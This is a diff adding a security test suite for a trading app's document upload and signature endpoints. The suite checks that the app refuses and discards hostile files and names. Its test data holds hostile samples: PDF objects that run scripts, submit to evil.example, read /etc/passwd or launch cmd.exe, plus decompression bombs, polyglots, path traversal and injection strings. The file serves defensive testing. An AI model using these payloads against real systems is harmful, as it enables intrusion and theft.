@@ -1,0 +1,354 @@
+import { deflateSync } from 'node:zlib'
+
+import { maxFileBytes } from '@tradefront/rules/documents/limits'
+import sharp from 'sharp'
+import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+
+import { type TestApp, type TestClient, startTestApp } from '../../testing/app/test-app.ts'
+import {
+  blankSignature,
+  countDocuments,
+  dataUrl,
+  multipartBody,
+  multipartType,
+  nameIn,
+  type Part,
+  pdf,
+  photo,
+  picture,
+  sendFile,
+  sendParts,
+  sendSign,
+  signature,
+} from '../../testing/documents/upload-files.ts'
+import { claimsSize, packed, script, svg, withChunk, withComment } from '../../testing/documents/hostile-files.ts'
+
+let app: TestApp
+let client: TestClient
+beforeAll(async () => {
+  app = await startTestApp()
+  ;({ client } = await app.registerTrader())
+})
+afterAll(() => app.stop())
+
+/** Nothing of what was sent is left anywhere. */
+const expectNothingKept = async () => expect(await countDocuments(app)).toEqual({ documents: 0, blobs: 0 })
+/** A good PDF of exactly so many bytes. */
+const pdfOf = (bytes: number) => pdf(`%${'x'.repeat(bytes - pdf().length - 2)}\n`)
+
+type Case = readonly [what: string, bytes: () => Buffer | Promise<Buffer>, status: number, error: string]
+
+/** PDFs that would do something when they are opened, or carry something. */
+const active: readonly [what: string, objects: string][] = [
+  ['with a script', '5 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n'],
+  ['with a script, its name disguised', '5 0 obj\n<< /S /J#61va#53cript /J#53 (app.alert(1)) >>\nendobj\n'],
+  ['with a script, packed', packed('5 0 << /S /JavaScript /JS (app.alert(1)) >>')],
+  ['that plays something and a script with it', '5 0 obj\n<< /S /Rendition /JS (app.alert(1)) >>\nendobj\n'],
+  ['with a form that runs scripts of its own', '5 0 obj\n<< /X#46A 6 0 R >>\nendobj\n'],
+  ['with a form that sends what is filled in', '5 0 obj\n<< /S /SubmitForm /F (http://evil.example) >>\nendobj\n'],
+  ['with a form that reads a file', '5 0 obj\n<< /S /ImportData /F (/etc/passwd) >>\nendobj\n'],
+  ['that starts a program', '5 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n'],
+  ['with a film that has scripts', '5 0 obj\n<< /Type /Annot /Subtype /RichMedia >>\nendobj\n'],
+  ['with a file in it', '5 0 obj\n<< /Type /EmbeddedFile >>\nendobj\n'],
+  ['with files in it', '5 0 obj\n<< /Names << /EmbeddedFiles 6 0 R >> >>\nendobj\n'],
+  ['that leads into a file in it', '5 0 obj\n<< /S /GoToE /T 6 0 R >>\nendobj\n'],
+]
+
+const files: readonly Case[] = [
+  ['an SVG that calls itself a JPEG', () => Buffer.from(svg), 415, 'documents.wrong_type'],
+  ['an SVG with a byte order mark', () => Buffer.from(`\ufeff${svg}`), 415, 'documents.wrong_type'],
+  ['an HTML page', () => Buffer.from(`<!doctype html>${script}`), 415, 'documents.wrong_type'],
+  ['HTML in front of a PDF', () => Buffer.concat([Buffer.from(`<html>${script}`), pdf()]), 415, 'documents.wrong_type'],
+  ['a ZIP', () => Buffer.from('PK\x03\x04 rest of it'), 415, 'documents.wrong_type'],
+  ['a GIF', () => Buffer.from('GIF89a\x01\0\x01\0\0\0\0;'), 415, 'documents.wrong_type'],
+  [
+    'a WebP',
+    () =>
+      sharp({ create: { width: 9, height: 9, channels: 3, background: 'red' } })
+        .webp()
+        .toBuffer(),
+    415,
+    'documents.wrong_type',
+  ],
+  [
+    'a TIFF',
+    () =>
+      sharp({ create: { width: 9, height: 9, channels: 3, background: 'red' } })
+        .tiff()
+        .toBuffer(),
+    415,
+    'documents.wrong_type',
+  ],
+  ['a program', () => Buffer.from('MZ\x90\0\x03'), 415, 'documents.wrong_type'],
+  ['nothing at all', () => Buffer.alloc(0), 415, 'documents.wrong_type'],
+  ['the head of a PNG alone', () => Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), 200, 'documents.unreadable'],
+  [
+    'a JPEG’s head before a script',
+    () => Buffer.from(`\xff\xd8\xff\xe0${script}`, 'latin1'),
+    200,
+    'documents.unreadable',
+  ],
+  ['half a JPEG', async () => (await photo()).subarray(0, 1500), 200, 'documents.unreadable'],
+  ['half a PNG', async () => (await picture()).subarray(0, 600), 200, 'documents.unreadable'],
+  ['a PNG of 65,000 by 65,000 in 8 KB', () => claimsSize(65_000, 65_000), 413, 'documents.too_many_pixels'],
+  ['a PNG of two billion by one', () => claimsSize(2_000_000_000, 1), 200, 'documents.unreadable'],
+  ['a PNG that ends before its pixels do', () => claimsSize(7_000, 7_000), 200, 'documents.unreadable'],
+  ['one byte more than 10 MB', () => pdfOf(maxFileBytes + 1), 413, 'documents.too_large'],
+  ['30 MB', () => Buffer.alloc(30 * 1024 * 1024, '%PDF-'), 413, 'documents.too_large'],
+  ['a PDF’s head alone', () => Buffer.from('%PDF-1.7\n'), 200, 'documents.unreadable'],
+  ['half a PDF', () => pdf().subarray(0, 150), 200, 'documents.unreadable'],
+  ...active.map(([what, objects]): Case => [`a PDF ${what}`, () => pdf(objects), 200, 'documents.pdf_active']),
+  ['a PDF with a password', () => pdf('', '/Encrypt 7 0 R '), 200, 'documents.pdf_locked'],
+  [
+    'a PDF whose objects unpack to 64 MB',
+    () => pdf(packed(Buffer.alloc(64 * 1024 * 1024))),
+    200,
+    'documents.unreadable',
+  ],
+  [
+    'a PDF of which one object unpacks to 20 MB',
+    () => pdf(packed(Buffer.alloc(20 * 1024 * 1024))),
+    200,
+    'documents.unreadable',
+  ],
+  [
+    'a PDF of which each object unpacks to 15 MB, five times',
+    () => pdf(packed(Buffer.alloc(15 * 1024 * 1024)).repeat(5)),
+    200,
+    'documents.unreadable',
+  ],
+  [
+    'a page between the head and the end of a PDF',
+    () => Buffer.from(`%PDF-1.7\n${script}\n%%EOF\n`),
+    200,
+    'documents.unreadable',
+  ],
+  [
+    'a PDF packed in a way we do not read',
+    () => pdf(packed('x').replace('/FlateDecode', '/LZWDecode')),
+    200,
+    'documents.unreadable',
+  ],
+]
+
+describe('a file that is not what it should be is refused, and nothing of it is kept', () => {
+  test.each(files)('%s', async (_what, make, status, error) => {
+    const reply = await sendFile(client, 'card', await make(), { filename: 'card.jpg' })
+    expect(reply.json, reply.text).toMatchObject({ return: false, error, message: expect.any(String) })
+    expect(reply.status).toBe(status)
+    await expectNothingKept()
+  })
+})
+
+describe('exactly as much as may be', () => {
+  test.each([
+    ['a PDF', async () => pdfOf(maxFileBytes)],
+    ['a photo', async () => Buffer.concat([await photo(), Buffer.alloc(maxFileBytes)]).subarray(0, maxFileBytes)],
+  ])('%s of 10 MB is taken', async (_what, make) => {
+    const bytes = await make()
+    expect(bytes).toHaveLength(maxFileBytes)
+    const { json } = await sendFile(client, 'card', bytes)
+    expect(json).toMatchObject({ return: true })
+    await client.post('/userdocs/remove', { name: nameIn(json) })
+    await expectNothingKept()
+  })
+})
+
+describe('what rides on a real file does not get through', () => {
+  const riders: readonly [string, () => Promise<Buffer>][] = [
+    ['HTML behind a JPEG', async () => Buffer.concat([await photo(), Buffer.from(script)])],
+    ['a ZIP behind a PNG', async () => Buffer.concat([await picture(), Buffer.from(`PK\x03\x04${script}PK\x05\x06`)])],
+    ['a script in a JPEG’s comment', async () => withComment(await photo(), script)],
+    ['a PDF in a JPEG’s comment', async () => withComment(await photo(), `%PDF-1.7 ${script} %%EOF`)],
+    ['a script in a PNG’s text', async () => withChunk(await picture(), 'tEXt', Buffer.from(`Comment\0${script}`))],
+    [
+      'a PNG’s text that unpacks to 64 MB',
+      async () => {
+        const bomb = deflateSync(Buffer.alloc(64 * 1024 * 1024, script))
+        return withChunk(await picture(), 'zTXt', Buffer.concat([Buffer.from('Comment\0\0'), bomb]))
+      },
+    ],
+    ['a ZIP behind a PDF', async () => Buffer.concat([pdf(), Buffer.from(`PK\x03\x04${script}`)])],
+  ]
+  test.each(riders)('%s', async (_what, make) => {
+    const name = nameIn((await sendFile(client, 'card', await make())).json)
+    const seen = await client.get(`/upload/${name}`)
+    expect(seen.status).toBe(200)
+    expect(seen.text).not.toContain('alert')
+    expect(seen.text).not.toContain('PK\x03\x04')
+    expect((await client.post('/userdocs/remove', { name })).json).toMatchObject({ return: true })
+    await expectNothingKept()
+  })
+})
+
+describe('signatures', () => {
+  const bad: readonly [string, () => Promise<Buffer>, number, string][] = [
+    ['an empty one', blankSignature, 200, 'documents.sign_empty'],
+    ['white on white', () => blankSignature('#ffff'), 200, 'documents.sign_empty'],
+    ['all black', () => blankSignature('#000f'), 200, 'documents.sign_empty'],
+    ['a JPEG', () => photo(), 415, 'documents.wrong_type'],
+    ['an SVG', async () => Buffer.from(svg), 415, 'documents.wrong_type'],
+    ['a bomb', async () => claimsSize(65_000, 65_000), 413, 'documents.too_many_pixels'],
+  ]
+  test.each(bad)('%s is refused', async (_what, make, status, error) => {
+    const reply = await sendSign(client, await make())
+    expect([reply.status, reply.json]).toEqual([status, expect.objectContaining({ return: false, error })])
+    await expectNothingKept()
+  })
+  test('empty says it in the document’s words', async () => {
+    expect((await sendSign(client, await blankSignature())).json).toMatchObject({ message: 'Cant save empty sign!' })
+  })
+  test.each([
+    ['no data URL', 'hello'],
+    ['another kind of picture', 'data:image/svg+xml;base64,PHN2Zy8+'],
+    ['HTML', 'data:text/html;base64,PHNjcmlwdD4='],
+    ['no base64', 'data:image/png;base64,<script>'],
+    ['nothing', ''],
+    ['two megabytes', `data:image/png;base64,${'A'.repeat(2_000_000)}`],
+  ])('%s is refused by both ways', async (_what, data) => {
+    const parts = await sendParts(client, '/upload', [
+      { name: 'type', value: 'sign' },
+      { name: 'data', value: data },
+    ])
+    const json = await client.post('/userdocs/dataurl', { type: 'sign', data })
+    for (const reply of [parts, json]) {
+      expect([400, 413]).toContain(reply.status)
+      expect(reply.json).toMatchObject({ return: false, error: expect.stringMatching(/^(errors|documents)\./) })
+    }
+    await expectNothingKept()
+  })
+})
+
+describe('names', () => {
+  const kinds = ['passport', 'card', 'sign']
+  const id = '0123456789abcdef0123456789abcdef'
+  test.each([
+    '../../../etc/passwd',
+    '..%2f..%2f..%2fetc%2fpasswd',
+    '%2e%2e%2fsecret-key',
+    '..%5c..%5csecret-key',
+    'card-%00.jpg',
+    '%2fetc%2fpasswd',
+    'C:%5cwindows',
+    `card-${id}.jpg%00.html`,
+    `card-${id}.jpg/..`,
+    '.env',
+    'card-.jpg',
+    `${'a'.repeat(5000)}.jpg`,
+    `card-${id}.svg`,
+    `card-${id}.jpg`,
+    "card-' or 1=1--.jpg",
+    `CARD-${id.toUpperCase()}.JPG`,
+  ])('%s names nothing', async (name) => {
+    for (const path of [
+      `/upload/${name}`,
+      `/userdocs/viewdoc/${name}`,
+      ...kinds.map((kind) => `/upload/${kind}/${name}`),
+    ]) {
+      const reply = await client.get(path)
+      expect([400, 404, 414], `${path} ${reply.text}`).toContain(reply.status)
+      expect(reply.json).toMatchObject({ return: false })
+    }
+    expect([400, 404]).toContain((await client.post('/userdocs/remove', { name: decodeURIComponent(name) })).status)
+  })
+
+  test('a name is believed only whole: another kind or ending is another name', async () => {
+    const name = nameIn((await sendFile(client, 'card', await photo())).json)
+    for (const wrong of [name.replace('card', 'passport'), name.replace('.jpg', '.pdf'), name.replace('.jpg', '')]) {
+      for (const path of [`/upload/${wrong}`, `/upload/${wrong.replace('-', '/')}`, `/userdocs/viewdoc/${wrong}`])
+        expect((await client.get(path)).status, path).toBe(404)
+      expect((await client.post('/userdocs/remove', { name: wrong })).status).toBe(404)
+    }
+    expect((await client.post('/userdocs/remove', { name })).json).toMatchObject({ return: true })
+    await expectNothingKept()
+  })
+
+  test.each([
+    ['a photo that calls itself a page', photo, 'card.html', 'text/html', /\.jpg$/],
+    ['a PNG that calls itself a PDF', picture, 'card.pdf', 'application/pdf', /\.jpg$/],
+    ['a PDF that calls itself a drawing', async () => pdf(), 'card.svg', 'image/svg+xml', /\.pdf$/],
+  ])('%s is kept as what is in it', async (_what, make, filename, contentType, ending) => {
+    const { json } = await sendParts(client, '/upload', [
+      { name: 'type', value: 'card' },
+      { name: 'file', value: await make(), filename, contentType },
+    ])
+    expect(nameIn(json)).toMatch(ending)
+    await client.post('/userdocs/remove', { name: nameIn(json) })
+    await expectNothingKept()
+  })
+
+  test('the name a file comes with is not read and not kept, whatever it is', async () => {
+    for (const filename of [
+      '../../evil.jpg',
+      '..\\\\evil.exe',
+      'a.php.jpg',
+      '<img src=x onerror=alert(1)>.jpg',
+      'x'.repeat(3000),
+      '.jpg',
+    ]) {
+      const { json } = await sendFile(client, 'card', await photo(80, 60), { filename })
+      expect(nameIn(json)).toMatch(/^card-[0-9a-f]{32}\.jpg$/)
+      await client.post('/userdocs/remove', { name: nameIn(json) })
+    }
+    await expectNothingKept()
+  })
+})
+
+describe('another trader', () => {
+  test('neither sees nor removes a document, by whatever name; foreign and missing answer alike', async () => {
+    const owner = await app.registerTrader()
+    const other = await app.registerTrader()
+    const names = [
+      nameIn((await sendFile(owner.client, 'passport', await photo())).json),
+      nameIn((await sendFile(owner.client, 'card', pdf())).json),
+      nameIn((await sendSign(owner.client, await signature())).json),
+    ]
+    const strange = (name: string) => name.replace(/[0-9a-f]{8}/, 'ffffffff')
+    for (const name of names) {
+      const [kind, rest] = name.split('-')
+      const paths = [`/upload/${name}`, `/upload/${kind}/${rest}`, `/userdocs/viewdoc/${name}`]
+      for (const path of paths) {
+        const missing = await other.client.get(strange(path))
+        expect(await other.client.get(path)).toMatchObject({ status: 404, json: missing.json })
+        expect((await (await app.client()).get(path)).status).toBe(401)
+      }
+      const missing = await other.client.post('/userdocs/remove', { name: strange(name) })
+      expect(await other.client.post('/userdocs/remove', { name })).toMatchObject({ status: 404, json: missing.json })
+      expect((await owner.client.get(`/upload/${name}`)).status).toBe(200)
+    }
+    expect((await other.client.get('/api/documents')).text).not.toContain(names[0])
+    // Sealed for one trader, it opens for no other, even by a changed row.
+    await app.database.pool.query('update documents set user_id = $1 where user_id = $2', [other.userId, owner.userId])
+    expect((await other.client.get(`/upload/${names[0]}`)).status).toBe(409)
+    await app.database.pool.query('delete from documents where user_id = $1', [other.userId])
+    await app.database.pool.query('delete from blobs')
+  })
+})
+
+test('a page of another site can send nothing: without the token it is 403, without a session 401', async () => {
+  const parts: Part[] = [
+    { name: 'type', value: 'card' },
+    { name: 'file', value: await photo(), filename: 'a.jpg' },
+  ]
+  const send = (browser: TestClient, token: string, url: string) =>
+    browser.send({
+      method: 'POST',
+      url,
+      payload: multipartBody(parts),
+      headers: { 'content-type': multipartType, 'x-csrf-token': token },
+    })
+  const visitor = await app.client()
+  for (const path of ['/upload', '/userdocs/upload']) {
+    expect((await send(client, '', path)).status).toBe(403)
+    expect((await send(client, visitor.csrf(), path)).status).toBe(403)
+    expect((await send(visitor, visitor.csrf(), path)).status).toBe(401)
+  }
+  await expectNothingKept()
+})
+
+test('a signature by JSON goes only where one was refused, and nothing else goes that way', async () => {
+  const data = dataUrl(await signature())
+  expect((await client.post('/userdocs/dataurl', { type: 'sign', data })).json).toMatchObject({ return: false })
+  expect((await client.post('/userdocs/dataurl', { type: 'passport', data })).status).toBe(400)
+  await expectNothingKept()
+})
